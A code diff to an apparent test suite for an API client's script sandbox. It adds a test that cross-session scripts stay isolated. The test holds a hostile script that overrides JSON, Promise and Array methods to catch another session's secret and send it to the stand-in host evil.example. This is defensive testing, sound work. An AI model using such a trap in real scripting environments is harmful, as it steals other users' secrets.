@@ -27,14 +27,15 @@ const CHECK = `const check = (x, how) => {
 };
 `;
 
-function job(code: string): RequestScriptJob {
+function job(code: string, realm?: string, data: Record<string, unknown> = { a: 1 }): RequestScriptJob {
   return {
     kind: 'request',
+    realm,
     event: 'test',
     parts: [{ name: 'after-response script of request "R"', code: CHECK + code }],
     request: { id: 'req_1', name: 'R', method: 'GET', url: 'http://127.0.0.1:9/x', headers: [], parameters: [], pathParameters: [], body: {}, authentication: {} },
     response: { code: 200, status: 'OK', headers: [['content-type', 'application/json']], body: '{"a":[1,2]}', responseTime: 1, size: 11 },
-    environment: { id: 'env_sub', name: 'Sub', data: { a: 1 } },
+    environment: { id: 'env_sub', name: 'Sub', data },
     baseEnvironment: { id: 'env_1', name: 'Base', data: { a: 1 } },
     globals: {},
     iteration: 0,
@@ -43,8 +44,8 @@ function job(code: string): RequestScriptJob {
   };
 }
 
-async function run(code: string): Promise<ScriptOutcome> {
-  return sandbox.run(job(code), {
+async function run(code: string, realm?: string, data?: Record<string, unknown>): Promise<ScriptOutcome> {
+  return sandbox.run(job(code, realm, data), {
     call: (c) => {
       hostCalls.push(JSON.stringify(c));
       return Promise.reject(new Error('refused by the test'));
@@ -215,6 +216,34 @@ describe('sandbox escapes: what a hostile script tries', function () {
     // what rendering with that data does: no pollution either
     await renderTemplate('{{ a }}', { ...o.environment, _: o.environment }).catch(() => '');
     assert.equal(({} as Record<string, unknown>).polluted, undefined);
+  });
+});
+
+describe('sandbox escapes: one session\'s scripts and another\'s', function () {
+  this.timeout(30_000);
+
+  it('a script that replaces JSON, Promise and Array methods sees nothing of another session\'s jobs, and changes nothing of them', async () => {
+    const trap = `globalThis.stolen = [];
+      const keep = (v) => { try { if (v && typeof v === 'object' && JSON.stringify.original(v).includes('TOPSECRET')) { globalThis.stolen.push('seen'); insomnia.sendRequest('http://evil.example/?s=TOPSECRET'); } } catch (e) {} };
+      const parse = JSON.parse; const stringify = JSON.stringify;
+      JSON.parse = function (t, r) { const v = parse.call(this, t, r); keep(v); return v; };
+      JSON.stringify = function (v, r, s) { keep(v); if (v && v.environment && typeof v.environment === 'object') v.environment.injected = 'by another session'; return stringify.call(this, v, r, s); };
+      JSON.stringify.original = stringify;
+      const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { keep(this); return then.call(this, a, b); };
+      const push = Array.prototype.push; Array.prototype.push = function (...xs) { xs.forEach(keep); return push.apply(this, xs); };`;
+    hostCalls.length = 0;
+    const a = await run(trap, 'session-a');
+    assert.equal(a.error, undefined, a.error?.message);
+    const b = await run(`insomnia.test('sees its secret', () => insomnia.expect(insomnia.environment.get('secret')).to.equal('TOPSECRET'));`, 'session-b', { a: 1, secret: 'TOPSECRET' });
+    assert.equal(b.error, undefined, b.error?.message);
+    assert.deepEqual(b.tests.map((t) => t.status), ['passed']);
+    assert.deepEqual(b.environment, { a: 1, secret: 'TOPSECRET' }, 'the outcome is what the script left, nothing injected');
+    assert.deepEqual(hostCalls.filter((c) => c.includes('TOPSECRET')), [], 'no host call with the secret');
+    const later = await run(`console.log(String(globalThis.stolen && globalThis.stolen.length));`, 'session-a');
+    assert.deepEqual(lines(later), ['0'], 'the trap\'s session saw nothing');
+    // within one session the scripts share their globals, as Insomnia's do (one collection, one environment)
+    const same = await run(`console.log(typeof JSON.stringify.original);`, 'session-a');
+    assert.deepEqual(lines(same), ['function']);
   });
 });
 
